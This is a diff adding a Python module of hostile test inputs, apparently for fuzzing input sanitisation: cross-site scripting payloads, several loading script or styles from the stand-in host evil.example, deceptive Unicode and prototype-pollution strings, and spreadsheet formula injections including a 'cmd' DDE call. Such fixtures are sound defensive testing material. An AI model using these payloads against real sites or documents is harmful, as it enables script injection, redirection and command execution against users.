@@ -1,0 +1,45 @@
+"""Texts that a stranger may get into a form, a file or an answer."""
+
+SCRIPTS = (
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    '"><script src=//evil.example></script>',
+    "<img src=x onerror=alert(1)>",
+    "<img src=//evil.example/x.png>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<iframe src=javascript:alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<a href=javascript:alert(1)>click</a>",
+    "<form action=//evil.example><button>go</button></form>",
+    "<input autofocus onfocus=alert(1)>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example/>",
+    "<object data=//evil.example>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "javascript:alert(1)",
+    "${alert(1)}",
+    "{{constructor.constructor('alert(1)')()}}",
+    "' onmouseover='alert(1)",
+    '" autofocus onfocus="alert(1)',
+    "<!--<img src=--><img src=x onerror=alert(1)>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\\u003cscript\\u003ealert(1)",
+)
+DECEIT = (
+    "\u202eevil\u202c",
+    "\u2066abc\u2069\u202edcba",
+    "a\u200bb\u200c\u200d\ufeffc",
+    "\U000e0041\U000e0042\U000e007f",
+    "Z" + "\u0335\u0321" * 50,
+    "x" * 100_000,
+    "__proto__",
+    "constructor",
+)
+FORMULAS = ("=HYPERLINK('//evil.example')", "+1+cmd|' /C calc'!A0", "@SUM(1)", "\uff1d1+1")
+PAYLOADS = SCRIPTS + DECEIT + FORMULAS
